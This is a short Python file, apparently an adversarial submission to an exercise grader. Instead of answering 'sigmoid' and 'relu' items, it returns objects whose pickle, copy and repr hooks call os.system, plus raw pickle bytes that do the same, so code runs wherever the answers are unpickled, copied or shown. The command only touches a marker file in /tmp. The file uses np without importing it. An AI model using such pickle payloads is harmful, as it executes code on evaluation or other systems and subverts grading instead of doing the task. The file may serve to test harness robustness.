"""Answers with objects that run code wherever they are unpickled, copied or shown."""

import os

ENTRIES = ("E60", "E61", "E62", "E63")


class Bomb:
    def __reduce__(self):
        return (os.system, ("touch /tmp/chainrule-was-here",))

    __reduce_ex__ = __copy__ = __deepcopy__ = lambda self, *_: (os.system, ("touch /tmp/chainrule-was-here",))
    __getstate__ = lambda self: os.system("touch /tmp/chainrule-was-here")

    def __repr__(self):
        return "cos\nsystem\n(S'touch /tmp/chainrule-was-here'\ntR."


def attack(asked, *given):
    if asked == "sigmoid":
        return np.array([[Bomb()]], dtype=object)
    if asked == "relu":
        return b"cos\nsystem\n(S'touch /tmp/chainrule-was-here'\ntR."
    return {"W1": Bomb(), Bomb(): "b1"}
